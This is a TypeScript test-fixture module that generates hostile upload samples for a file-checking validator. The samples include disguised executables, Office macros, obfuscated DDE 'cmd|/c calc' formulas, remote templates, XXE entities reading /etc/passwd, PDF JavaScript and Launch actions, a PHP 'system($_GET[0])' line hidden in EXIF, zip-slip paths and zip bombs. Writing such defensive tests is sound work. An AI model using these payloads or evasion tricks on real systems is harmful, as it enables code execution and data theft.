import { heicOf, jpegOf, pngChunk, pngOf } from './image-maker';
import { docxOf, field, innerField, paragraph, relations, xlsxOf } from './office-maker';
import { docStreams, excel5Book, oleOf, record, sheetRecord, xlsBook } from './ole-maker';
import { encryptedPdf, objectStream, pdfOf, revised } from './pdf-maker';
import { Seeded } from './seeded';
import { zipped } from './zip-maker';

export interface HostileKind {
  readonly kind: string;
  readonly name: string;
  /** Key of the reason, `problems:file.<reason>`. */
  readonly reason: string;
  make(seeded: Seeded): Buffer;
  /** Refused by its name or first bytes alone, also when the content is not looked at. */
  readonly shallow?: true;
}

const kind = (words: string, name: string, reason: string, make: (seeded: Seeded) => Buffer): HostileKind => ({ kind: words, name, reason, make });
const shallow = (words: string, name: string, reason: string, make: (seeded: Seeded) => Buffer): HostileKind => ({ ...kind(words, name, reason, make), shallow: true });

const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03', 'latin1'), Buffer.alloc(1500, 7)]);
const OLE_RELATION = 'oleObject';
const text = (value: string): string => `<w:p><w:r><w:t>${value}</w:t></w:r></w:p>`;

const cell = (formula: string): string => `<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`;

const DDE_FORMULAS: readonly (readonly [string, string])[] = [
  ['with its bar as an entity', "cmd&#124;'/c calc'!A0"],
  ['with its bar in hexadecimal', "cmd&#x7C;'/c calc'!A0"],
  ['with a letter as an entity', "&#99;md|'/c calc'!A0"],
  ['in CDATA', "<![CDATA[cmd|'/c calc'!A0]]>"],
  ['half in CDATA', "cmd<![CDATA[|]]>'/c calc'!A0"],
  ['cut by a comment', "cmd<!-- x -->|'/c calc'!A0"],
  ['behind a sum', "1+cmd|'/c calc'!A0"],
  ['inside a function', "SUM(cmd|'/c calc'!A0)"],
  ['behind five hundred signs', `${'1+'.repeat(250)}cmd|'/c calc'!A0`],
  ['behind a text', `"a""b"&amp;cmd|'/c calc'!A0`],
  ['wholly in quotes', "'cmd|/c calc'!A0"],
  ['with its program in quotes', "'cmd'|'/c calc'!A0"],
  ['behind a bracket that never ends', "[a+cmd|'/c calc'!A0"],
  ['behind the column of a table', "Bang1[Cột 'a]+cmd|'/c calc'!A0"],
  ['cut by an element', `cmd|<z:x xmlns:z="urn:z"/>'/c calc'!A0`],
  ['behind an element', `<z:x xmlns:z="urn:z"/>cmd|'/c calc'!A0`],
  ['around an element with words', `cmd<z:x xmlns:z="urn:z">|</z:x>'/c calc'!A0`],
  ['as a function', 'DDE("soffice","/tmp/x","A1")'],
];

const NAMES: readonly HostileKind[] = [
  shallow('a program', 'cai-dat.exe', 'typeNotAccepted', () => EXE),
  shallow('a program behind two endings', 'bao-cao.pdf.exe', 'typeNotAccepted', () => pdfOf()),
  shallow('a program renamed to PDF', 'bao-cao.pdf', 'contentDiffers', () => EXE),
  shallow('a program turned round by a mark', 'hoa-don\u202Efdp.exe', 'typeNotAccepted', () => EXE),
  shallow('a script of the shell', 'chay.ps1', 'typeNotAccepted', () => Buffer.from('Invoke-WebRequest')),
  shallow('a page', 'trang.html', 'typeNotAccepted', () => Buffer.from('<html><script>alert(1)</script>')),
  shallow('a drawing that runs scripts', 'anh.svg', 'typeNotAccepted', () => Buffer.from('<svg onload="alert(1)"/>')),
  shallow('a page renamed to PNG', 'anh.png', 'contentDiffers', () => Buffer.from('<html><body>')),
  shallow('a workbook for macros', 'so-lieu.xlsm', 'typeNotAccepted', () => xlsxOf()),
  shallow('nothing at all', 'rong.pdf', 'empty', () => Buffer.alloc(0)),
  shallow('a RAR renamed to ZIP', 'minh-chung.zip', 'contentDiffers', () => Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1')),
  shallow('a JPEG called PDF', 'quet.pdf', 'contentDiffers', (seeded) => jpegOf(seeded)),
  shallow('no ending', 'khong-co-duoi', 'typeNotAccepted', () => pdfOf()),
  kind('an old Word file renamed to .docx', 'cong-van.docx', 'contentDiffers', () => oleOf(docStreams('Công văn'))),
  kind('a workbook called a paper', 'cong-van.docx', 'contentDiffers', () => xlsxOf()),
  kind('an old workbook called an old paper', 'cong-van.doc', 'contentDiffers', () => oleOf({ Workbook: xlsBook() })),
  kind('a ZIP of pictures called a workbook', 'bang.xlsx', 'contentDiffers', () => zipped([{ name: 'anh.png', content: pngOf(4, 4) }])),
];

const OFFICE: readonly HostileKind[] = [
  kind('Word macros', 'a.docx', 'macros', () => docxOf({ parts: [{ name: 'word/vbaProject.bin', content: 'x' }] })),
  kind('Excel macros in capitals', 'a.xlsx', 'macros', () => xlsxOf({ parts: [{ name: 'XL/VBAPROJECT.BIN', content: 'x' }] })),
  kind('macros under another name, told by their relation', 'a.docx', 'macros', () => docxOf({ relations: [['http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'media/image1.png']], parts: [{ name: 'word/media/image1.png', content: 'x' }] })),
  kind('macros told by their content type', 'a.docx', 'macros', () => docxOf({ types: '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>' })),
  kind('a macro document renamed to .docx', 'a.docx', 'macros', () => docxOf({ types: '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' })),
  kind('Excel 4.0 macro sheet', 'a.xlsx', 'macros', () => xlsxOf({ parts: [{ name: 'xl/macrosheets/sheet1.xml', content: '<xm/>' }] })),
  kind('Auto_Open name of Excel 4.0', 'a.xlsx', 'macros', () => xlsxOf({ workbook: '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M!$A$1</definedName></definedNames>' })),
  kind('ActiveX control in Word', 'a.docx', 'embedded', () => docxOf({ parts: [{ name: 'word/activeX/activeX1.bin', content: 'x' }] })),
  kind('ActiveX control in Excel by relation', 'a.xlsx', 'embedded', () => xlsxOf({ relations: [['control', '../ctl/c1.xml']] })),
  kind('OLE object in Word', 'a.docx', 'embedded', () => docxOf({ relations: [[OLE_RELATION, 'embeddings/oleObject1.bin']], parts: [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }] })),
  kind('OLE object in Excel', 'a.xlsx', 'embedded', () => xlsxOf({ parts: [{ name: 'xl/embeddings/oleObject1.bin', content: 'x' }] })),
  kind('a whole paper embedded in Word', 'a.docx', 'embedded', () => docxOf({ relations: [['package', 'embeddings/Tai_lieu.docx']], parts: [{ name: 'word/embeddings/Tai_lieu.docx', content: docxOf() }] })),
  kind('a macro workbook behind a chart', 'a.docx', 'macros', () => docxOf({
    parts: [
      { name: 'word/charts/chart1.xml', content: '<c/>' },
      { name: 'word/charts/_rels/chart1.xml.rels', content: relations([['package', '../embeddings/Bang1.xlsx']]) },
      { name: 'word/embeddings/Bang1.xlsx', content: xlsxOf({ parts: [{ name: 'xl/vbaProject.bin', content: 'x' }] }) },
    ],
  })),
  kind('a page as a chunk of Word', 'a.docx', 'embedded', () => docxOf({ relations: [['aFChunk', 'chunk.html']], parts: [{ name: 'word/chunk.html', content: '<html>' }] })),
  kind('a template from the web', 'a.docx', 'externalContent', () => docxOf({ settingsRelations: [['attachedTemplate', 'http://198.51.100.7/mau.dotm', 'External']] })),
  kind('a template from a share', 'a.docx', 'externalContent', () => docxOf({ settingsRelations: [['attachedTemplate', 'file://198.51.100.7/c/mau.dotm', 'External']] })),
  kind('an object from the web', 'a.docx', 'externalContent', () => docxOf({ relations: [[OLE_RELATION, 'mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html', 'External']] })),
  kind('a support link that starts a program', 'a.docx', 'externalContent', () => docxOf({ relations: [['hyperlink', 'ms-msdt:/id PCWDiagnostic /skip force', 'External']] })),
  kind('a script for a hyperlink', 'a.xlsx', 'externalContent', () => xlsxOf({ relations: [['hyperlink', 'javascript:alert(1)', 'External']] })),
  kind('a frame from the web', 'a.docx', 'externalContent', () => docxOf({ relations: [['frame', 'http://198.51.100.7/khung.html', 'External']] })),
  kind('a part of the document from the web', 'a.docx', 'externalContent', () => docxOf({ relations: [['subDocument', 'http://198.51.100.7/p.docx', 'External']] })),
  kind('a picture from a share that takes the sign-in', 'a.docx', 'externalContent', () => docxOf({ relations: [['image', '\\\\198.51.100.7\\x\\a.png', 'External']] })),
  kind('text included from the web', 'a.docx', 'externalContent', () => docxOf({ body: field(' INCLUDETEXT "http://198.51.100.7/x.txt" ') })),
  kind('DDE field', 'a.docx', 'dde', () => docxOf({ body: field('DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"') })),
  kind('DDEAUTO field', 'a.docx', 'dde', () => docxOf({ body: field(' DDEAUTO c:\\\\cmd.exe "/k calc" ') })),
  kind('DDEAUTO cut into runs', 'a.docx', 'dde', () => docxOf({ body: field('DD', 'EAU', 'TO c:\\\\cmd.exe "/k calc"') })),
  kind('DDE spelled in numbers', 'a.docx', 'dde', () => docxOf({ body: field(innerField('QUOTE 68 68 69 65 85 84 79'), ' c:\\\\cmd.exe') })),
  kind('DDE as a simple field', 'a.docx', 'dde', () => docxOf({ body: '<w:p><w:fldSimple w:instr=" DDEAUTO cmd x "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>' })),
  kind('DDE in a header', 'a.docx', 'dde', () => docxOf({ parts: [{ name: 'word/header1.xml', content: `<w:hdr xmlns:w="w">${field('DDEAUTO cmd "/k calc"')}</w:hdr>` }] })),
  kind('DDE formula in Excel', 'a.xlsx', 'dde', () => xlsxOf({ body: "<row r='1'><c r='A1'><f>cmd|' /C calc'!A0</f><v>0</v></c></row>" })),
  ...DDE_FORMULAS.map(([words, formula]) => kind(`DDE formula ${words}`, 'a.xlsx', 'dde', () => xlsxOf({ body: cell(formula) }))),
  kind('DDE as a shared formula', 'a.xlsx', 'dde', () => xlsxOf({ body: `<row r="1"><c r="A1"><f t="shared" ref="A1:A3" si="0">1+cmd|'/c calc'!A0</f></c></row>` })),
  kind('DDE as an array formula', 'a.xlsx', 'dde', () => xlsxOf({ body: `<row r="1"><c r="A1"><f t="array" ref="A1:A3">cmd|'/c calc'!A0</f></c></row>` })),
  kind('DDE behind a defined name', 'a.xlsx', 'dde', () => xlsxOf({ workbook: `<definedNames><definedName name="x">1+cmd&#124;'/c calc'!A0</definedName></definedNames>` })),
  kind('DDE in a rule of formats', 'a.xlsx', 'dde', () => xlsxOf({ settings: `<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>` })),
  kind('DDE in a rule of input', 'a.xlsx', 'dde', () => xlsxOf({ settings: `<dataValidations><dataValidation type="list" sqref="A1"><formula1>cmd|'/c calc'!A0</formula1></dataValidation></dataValidations>` })),
  kind('DDE in a sheet under another ending', 'a.xlsx', 'dde', () => xlsxOf({ types: '<Override PartName="/xl/so.dat" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>', parts: [{ name: 'xl/so.dat', content: `<worksheet>${cell("cmd|'/c calc'!A0")}</worksheet>` }] })),
  kind('DDE link under another name', 'a.xlsx', 'dde', () => xlsxOf({ parts: [{ name: 'xl/so.xml', content: '<externalLink xmlns="s"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }] })),
  kind('DDE behind thirty megabytes of blanks', 'a.xlsx', 'dde', (seeded) => xlsxOf({ parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: `<externalLink>${' '.repeat(31_000_000)}<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>` }, { name: 'xl/media/image1.jpeg', content: seeded.bytes(250_000), method: 0 }] })),
  kind('a program of the machine asked for data', 'a.xlsx', 'dde', () => xlsxOf({ body: cell('RTD("may.chu",,"a")') })),
  kind('cells sent to the web', 'a.xlsx', 'webFormula', () => xlsxOf({ body: cell('_xlfn.WEBSERVICE("http://198.51.100.7/"&amp;A2)') })),
  kind('cells sent to the web from within another function', 'a.xlsx', 'webFormula', () => xlsxOf({ body: cell('IFERROR(1,_xlfn.W&#69;BSERVICE ("http://198.51.100.7/"&amp;A2))') })),
  kind('a picture fetched by a formula', 'a.xlsx', 'webFormula', () => xlsxOf({ body: cell('_xlfn.IMAGE("http://198.51.100.7/"&amp;A2)') })),
  kind('a table fetched on opening', 'a.xlsx', 'externalLinks', () => xlsxOf({ parts: [{ name: 'xl/queryTables/queryTable1.xml', content: '<queryTable xmlns="s" refreshOnLoad="1" connectionId="1"/>' }] })),
  kind('a picture from the web', 'a.docx', 'webPicture', () => docxOf({ relations: [['image', 'http://198.51.100.7/x.png', 'External']] })),
  kind('a picture from the web in a workbook', 'a.xlsx', 'webPicture', () => xlsxOf({ parts: [{ name: 'xl/drawings/_rels/drawing1.xml.rels', content: relations([['image', 'https://198.51.100.7/x.png', 'External']]) }] })),
  kind('a picture included by a field', 'a.docx', 'webPicture', () => docxOf({ body: field(' INCLUDEPICTURE "http://198.51.100.7/x.png" \\d ') })),
  kind('a picture included from a share', 'a.docx', 'externalContent', () => docxOf({ body: field(' INCLUDEPICTURE "\\\\\\\\198.51.100.7\\\\x\\\\a.png" ') })),
  kind('DDE in a field cut by an element', 'a.docx', 'dde', () => docxOf({ body: field('<w:r><w:instrText>DDEA<z:x xmlns:z="urn:z"/>UTO cmd "/k calc"</w:instrText></w:r>') })),
  kind('DDE in a code cut by an element outside of a field', 'a.docx', 'dde', () => docxOf({ body: '<w:p><w:r><w:instrText><z:x xmlns:z="urn:z"/>DDEA<z:y xmlns:z="urn:z"/>UTO cmd "/k calc"</w:instrText></w:r></w:p>' })),
  kind('DDE in a field of CDATA', 'a.docx', 'dde', () => docxOf({ body: field('<w:r><w:instrText><![CDATA[DDEAUTO cmd "/k calc"]]></w:instrText></w:r>') })),
  kind('DDE link in Excel', 'a.xlsx', 'dde', () => xlsxOf({ parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink xmlns="s"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }] })),
  kind('a link to another workbook', 'a.xlsx', 'externalLinks', () => xlsxOf({ parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink xmlns="s" xmlns:r="r"><externalBook r:id="rId1"/></externalLink>' }, { name: 'xl/externalLinks/_rels/externalLink1.xml.rels', content: relations([['externalLinkPath', 'file:///D:/so.xlsx', 'External']]) }] })),
  kind('data fetched on opening', 'a.xlsx', 'externalLinks', () => xlsxOf({ parts: [{ name: 'xl/connections.xml', content: '<connections xmlns="s"><connection id="1" refreshOnLoad="1"><webPr url="http://198.51.100.7"/></connection></connections>' }] })),
  kind('entities that read files', 'a.docx', 'entities', () => docxOf({ parts: [{ name: 'word/footnotes.xml', content: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' }] })),
  kind('a billion laughs', 'a.xlsx', 'entities', () => xlsxOf({ parts: [{ name: 'xl/sharedStrings.xml', content: '<!DOCTYPE l [<!ENTITY a "haha"><!ENTITY b "&a;&a;">]><sst>&b;</sst>' }] })),
  kind('a DOCTYPE in UTF-16', 'a.docx', 'entities', () => docxOf({ parts: [{ name: 'word/comments.xml', content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<!DOCTYPE x><x/>', 'utf16le')]) }] })),
  kind('a sheet in UTF-16 that hides from the search', 'a.xlsx', 'dde', () => xlsxOf({ parts: [{ name: 'xl/worksheets/sheet2.xml', content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<worksheet>${cell("cmd|'/c calc'!A0")}</worksheet>`, 'utf16le')]) }] })),
  kind('a sheet in UTF-16 without its mark', 'a.xlsx', 'damaged', () => xlsxOf({ parts: [{ name: 'xl/worksheets/sheet2.xml', content: Buffer.from('<worksheet/>', 'utf16le') }] })),
  kind('a sheet in UTF-7', 'a.xlsx', 'damaged', () => xlsxOf({ parts: [{ name: 'xl/worksheets/sheet2.xml', content: `<?xml version="1.0" encoding="utf-7"?><worksheet>${cell("cmd+AHw-'/c calc'!A0")}</worksheet>` }] })),
  kind('cells merged over the whole sheet', 'a.xlsx', 'hugeTable', () => xlsxOf({ settings: '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>' })),
  kind('a new paper with a password', 'a.docx', 'encrypted', () => oleOf({ EncryptionInfo: Buffer.alloc(200, 1), EncryptedPackage: Buffer.alloc(5000, 2) })),
  kind('XML that is torn', 'a.docx', 'damaged', () => docxOf({ body: '<w:p><w:r>' })),
];

const OLD_OFFICE: readonly HostileKind[] = [
  kind('macros in an old paper', 'a.doc', 'macros', () => oleOf(docStreams('x', { 'Macros/VBA/_VBA_PROJECT': Buffer.alloc(300, 1) }))),
  kind('macros in an old workbook', 'a.xls', 'macros', () => oleOf({ Workbook: xlsBook(), '_VBA_PROJECT_CUR/VBA/dir': Buffer.alloc(300, 1) })),
  kind('an object in an old paper', 'a.doc', 'embedded', () => oleOf(docStreams('x', { 'ObjectPool/_1234/\u0001Ole10Native': Buffer.alloc(300, 1) }))),
  kind('an object in an old workbook', 'a.xls', 'embedded', () => oleOf({ Workbook: xlsBook(), 'MBD0012AB34/\u0001Ole10Native': Buffer.alloc(300, 1) })),
  kind('DDE in an old paper', 'a.doc', 'dde', () => oleOf(docStreams('\x13 DDEAUTO c:\\cmd.exe "/k calc" \x14x\x15'))),
  kind('a remote template of an old paper', 'a.doc', 'externalContent', () => oleOf(docStreams('x', { '1Table': Buffer.concat([Buffer.from('http://198.51.100.7/mau.dot\0', 'utf16le'), Buffer.alloc(4096)]) }))),
  kind('an old paper with a password', 'a.doc', 'encrypted', () => oleOf(docStreams('x', {}, 0x0100))),
  kind('an old workbook with a password', 'a.xls', 'encrypted', () => oleOf({ Workbook: xlsBook([record(0x2f, Buffer.alloc(54, 1))]) })),
  kind('macro sheet of Excel 4.0 in an old workbook', 'a.xls', 'macros', () => oleOf({ Workbook: xlsBook([sheetRecord(1, 'Macro1')]) })),
  kind('DDE link of an old workbook', 'a.xls', 'dde', () => oleOf({ Workbook: xlsBook([record(0x01ae, Buffer.concat([Buffer.from([0, 0, 9, 0, 0]), Buffer.from('cmd\x03/C x')]))]) })),
  kind('DDE link of a workbook of Excel 5', 'a.xls', 'dde', () => oleOf({ Book: excel5Book([record(0x17, Buffer.concat([Buffer.from([8]), Buffer.from('cmd\x03/C x')]))]) })),
  kind('a workbook of Excel 5 linked to another', 'a.xls', 'externalLinks', () => oleOf({ Book: excel5Book([record(0x17, Buffer.concat([Buffer.from([9]), Buffer.from('\x01\x01Dso.xls')]))]) })),
  kind('cells sent to the web by an old workbook', 'a.xls', 'webFormula', () => oleOf({ Workbook: xlsBook([record(0x18, Buffer.concat([Buffer.alloc(15), Buffer.from('_xlfn.WEBSERVICE')]))]) })),
  kind('an old workbook linked to another', 'a.xls', 'externalLinks', () => oleOf({ Workbook: xlsBook([record(0x01ae, Buffer.concat([Buffer.from([1, 0, 8, 0, 0]), Buffer.from('\x01\x01Dso.xls')]))]) })),
  kind('half an old paper', 'a.doc', 'damaged', () => oleOf(docStreams('x')).subarray(0, 700)),
];

const action = (dict: string): Buffer => pdfOf({ catalog: '/OpenAction 6 0 R', objects: [`<< /Type /Action ${dict} >>`] });
const PDF: readonly HostileKind[] = [
  kind('JavaScript on opening', 'a.pdf', 'pdfScript', () => action('/S /JavaScript /JS (app.alert\\(1\\))')),
  kind('JavaScript with its name in numbers', 'a.pdf', 'pdfScript', () => action('/S /J#61vaScr#69pt /JS <616c657274>')),
  kind('JavaScript in the names of the document', 'a.pdf', 'pdfScript', () => pdfOf({ catalog: '/Names << /JavaScript << /Names [(x) 6 0 R] >> >>', objects: ['<< >>'] })),
  kind('JavaScript in an object stream', 'a.pdf', 'pdfScript', () => pdfOf({ packed: true, catalog: '/OpenAction 6 0 R', objects: ['<< /S /JavaScript /JS (x) >>'] })),
  kind('JavaScript in an object stream without its type', 'a.pdf', 'pdfScript', () => pdfOf({ objects: [objectStream([[9, '<< /S /JavaScript /JS (x) >>']], '')] })),
  kind('JavaScript in hexadecimal', 'a.pdf', 'pdfScript', () => pdfOf({ objects: [Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 200 >>\nstream\n${Buffer.from('9 0 << /S /JavaScript /JS (x) >>').toString('hex')}>\nendstream`)] })),
  kind('JavaScript behind a restriction', 'a.pdf', 'pdfScript', () => encryptedPdf('', '<< /S /JavaScript /JS (x) >>')),
  kind('JavaScript added by a revision', 'a.pdf', 'pdfScript', () => revised(pdfOf(), 6, '<< /S /JavaScript /JS (x) >>')),
  kind('JavaScript by a detour', 'a.pdf', 'pdfScript', () => pdfOf({ catalog: '/OpenAction << /S 6 0 R /JS (x) >>', objects: ['/JavaScript'] })),
  kind('a program started by PDF', 'a.pdf', 'pdfAction', () => action('/S /Launch /Win << /F (cmd.exe) >>')),
  kind('data sent by a form', 'a.pdf', 'pdfAction', () => action('/S /SubmitForm /F (http://198.51.100.7)')),
  kind('a file attached to PDF', 'a.pdf', 'pdfAttachment', () => pdfOf({ catalog: '/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>', objects: ['<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>', '<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream'] })),
  kind('a film in PDF', 'a.pdf', 'pdfAttachment', () => pdfOf({ page: '/Annots [<< /Subtype /RichMedia >>]' })),
  kind('a dynamic form', 'a.pdf', 'pdfForm', () => pdfOf({ catalog: '/AcroForm << /XFA [(template) 6 0 R] /Fields [] >>', objects: ['<< >>'] })),
  kind('a PDF with a password', 'a.pdf', 'encrypted', () => encryptedPdf('matkhau')),
  kind('a PDF for certificates only', 'a.pdf', 'encrypted', () => pdfOf({ info: '/Encrypt << /Filter /Adobe.PubSec /V 4 >> /ID [<00> <00>]' })),
  kind('objects packed in a rare way', 'a.pdf', 'pdfObscured', () => pdfOf({ objects: ['<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream'] })),
  kind('an object stream that unpacks to gigabytes', 'a.pdf', 'unpacksTooLarge', () => pdfOf({ objects: [objectStream([[9, `(${' '.repeat(70 * 1_048_576)})`]])] })),
  kind('arrays within arrays', 'a.pdf', 'pdfObscured', () => pdfOf({ objects: ['['.repeat(5_000)] })),
  kind('a PDF without its end', 'a.pdf', 'truncated', () => pdfOf().subarray(0, 600)),
  kind('a PDF that is a page as well', 'a.pdf', 'mixedContent', () => Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdfOf()])),
  kind('a page behind a PDF', 'a.pdf', 'mixedContent', () => Buffer.concat([pdfOf(), Buffer.from('<script>alert(1)</script>')])),
  kind('a ZIP behind a PDF', 'a.pdf', 'mixedContent', () => Buffer.concat([pdfOf(), zipped([{ name: 'x.exe', content: EXE }])])),
  kind('a PDF behind a ZIP', 'a.pdf', 'mixedContent', () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(40), pdfOf()])),
];

const IMAGES: readonly HostileKind[] = [
  kind('a PNG of 50,000 by 50,000', 'a.png', 'pixelFlood', () => pngOf(2, 2, { claimed: [50_000, 50_000] })),
  kind('a JPEG of 65,535 by 65,535', 'a.jpg', 'pixelFlood', (seeded) => jpegOf(seeded, { width: 65_535, height: 65_535 })),
  kind('a HEIC of gigapixels', 'a.heic', 'pixelFlood', (seeded) => heicOf(seeded, 60_000, 60_000)),
  kind('half a PNG', 'a.png', 'truncated', () => pngOf(40, 40).subarray(0, 70)),
  kind('half a JPEG', 'a.jpg', 'truncated', (seeded) => jpegOf(seeded, { end: false })),
  kind('half a HEIC', 'a.heic', 'truncated', (seeded) => heicOf(seeded).subarray(0, 2000)),
  kind('a PNG with a wrong sum', 'a.png', 'damaged', () => Buffer.from(pngOf(9, 9).map((byte, index) => (index === 45 ? byte ^ 1 : byte)))),
  kind('an archive behind a picture (GIFAR)', 'a.jpg', 'mixedContent', (seeded) => jpegOf(seeded, { after: zipped([{ name: 'META-INF/MANIFEST.MF' }, { name: 'X.class', content: EXE }]) })),
  kind('an archive behind a PNG', 'a.png', 'mixedContent', () => Buffer.concat([pngOf(4, 4), zipped([{ name: 'x.js' }])])),
  kind('a script in the notes of a camera', 'a.jpg', 'mixedContent', (seeded) => jpegOf(seeded, { segments: [[0xe1, Buffer.from('Exif\0\0<?php system($_GET[0]); ?>')]] })),
  kind('a page in the comment of a PNG', 'a.png', 'mixedContent', () => pngOf(4, 4, { text: '<script>alert(1)</script>' })),
  kind('a PNG without a picture', 'a.png', 'damaged', () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', Buffer.from('0000000400000004080200000000', 'hex').subarray(0, 13)), pngChunk('IEND', Buffer.alloc(0))])),
];

const ZIP: readonly HostileKind[] = [
  kind('a program in a ZIP', 'a.zip', 'programInside', () => zipped([{ name: 'bao-cao.pdf', content: pdfOf() }, { name: 'xem.exe', content: EXE }])),
  kind('a program in a ZIP under another ending', 'a.zip', 'programInside', () => zipped([{ name: 'ghi-chu.txt', content: EXE }])),
  kind('a shortcut of Windows in a ZIP', 'a.zip', 'programInside', () => zipped([{ name: 'Báo cáo.pdf.lnk', content: 'L' }])),
  kind('a program behind dots in a ZIP', 'a.zip', 'programInside', () => zipped([{ name: 'xem.exe. .', content: 'x' }])),
  kind('a name turned round in a ZIP', 'a.zip', 'programInside', () => zipped([{ name: 'hoa-don\u202Efdp.txt', content: 'x' }])),
  kind('a script in a ZIP', 'a.zip', 'programInside', () => zipped([{ name: 'chay.vbs', content: 'x' }])),
  kind('a page in a ZIP', 'a.zip', 'programInside', () => zipped([{ name: 'dang-nhap.html', content: '<form>' }])),
  kind('a ZIP in a ZIP', 'a.zip', 'nestedArchive', () => zipped([{ name: 'trong.zip', content: zipped([{ name: 'x' }]) }])),
  kind('a ZIP in a ZIP under another ending', 'a.zip', 'nestedArchive', () => zipped([{ name: 'trong.dat', content: zipped([{ name: 'x' }]) }])),
  kind('a RAR in a ZIP', 'a.zip', 'nestedArchive', () => zipped([{ name: 'trong.bin1', content: Buffer.from('Rar!\x1a\x07\x00', 'latin1') }])),
  kind('a macro paper in a ZIP', 'a.zip', 'macros', () => zipped([{ name: 'cv.docx', content: docxOf({ parts: [{ name: 'word/vbaProject.bin' }] }) }])),
  kind('a hostile PDF in a ZIP', 'a.zip', 'pdfScript', () => zipped([{ name: 'cv.pdf', content: action('/S /JavaScript /JS (x)') }])),
  kind('a program called PDF in a ZIP', 'a.zip', 'programInside', () => zipped([{ name: 'cv.pdf', content: EXE }])),
  kind('a path that climbs out', 'a.zip', 'unsafePaths', () => zipped([{ name: '../../etc/cron.d/x' }])),
  kind('a path of the machine', 'a.zip', 'unsafePaths', () => zipped([{ name: '/etc/passwd' }])),
  kind('a path of Windows', 'a.zip', 'unsafePaths', () => zipped([{ name: 'a\\..\\..\\x' }])),
  kind('a path with a drive', 'a.docx', 'unsafePaths', () => docxOf({ parts: [{ name: 'C:x' }] })),
  kind('a link for a file', 'a.zip', 'symlinks', () => zipped([{ name: 'tep', content: '/etc/passwd', mode: 0o120777 }])),
  kind('a ZIP with a password', 'a.zip', 'encrypted', () => zipped([{ name: 'a.pdf', content: 'x'.repeat(40), flags: 1 }])),
  kind('a bomb of blanks', 'a.zip', 'unpacksTooLarge', () => zipped([{ name: 'a.txt', content: Buffer.alloc(90_000_000, 32) }])),
  kind('a bomb as a workbook', 'a.xlsx', 'unpacksTooLarge', () => xlsxOf({ parts: [{ name: 'xl/sharedStrings.xml', content: Buffer.alloc(90_000_000, 32) }] })),
  kind('a directory that claims little', 'a.zip', 'damaged', () => zipped([{ name: 'a.txt', content: Buffer.alloc(5_000_000, 32), claimedSize: 100 }])),
  kind('thousands of entries', 'a.zip', 'unpacksTooLarge', () => zipped(Array.from({ length: 5_001 }, (_, index) => ({ name: `${index}.txt` })))),
  kind('entries over one another', 'a.zip', 'deceptiveZip', () => zipped([{ name: 'a.txt', content: 'y'.repeat(99) }, { name: 'a.txt'.replace('a', 'b'), sameAs: 0, content: 'y'.repeat(99) }])),
  kind('one name twice', 'a.docx', 'deceptiveZip', () => docxOf({ parts: [{ name: 'word/Document.xml', content: text('khác') }] })),
  kind('two names for one entry', 'a.zip', 'deceptiveZip', () => zipped([{ name: 'cv.txt', localName: 'cv.exe', content: 'x' }])),
  kind('a rare packing', 'a.zip', 'zipMethod', () => zipped([{ name: 'a.txt', content: 'xxxx', method: 14 }])),
  kind('a wrong sum', 'a.zip', 'damaged', () => zipped([{ name: 'a.txt', content: 'xxxx', crc: 5 }])),
  kind('half a ZIP', 'a.zip', 'damaged', () => zipped([{ name: 'a.txt', content: 'xxxx' }]).subarray(0, 60)),
  kind('half a new paper', 'a.docx', 'damaged', () => docxOf({ body: paragraph('x') }).subarray(0, 900)),
];

/** Each kind by its name, with the reason a person is given. */
export const HOSTILE_KINDS: readonly HostileKind[] = [...NAMES, ...OFFICE, ...OLD_OFFICE, ...PDF, ...IMAGES, ...ZIP];
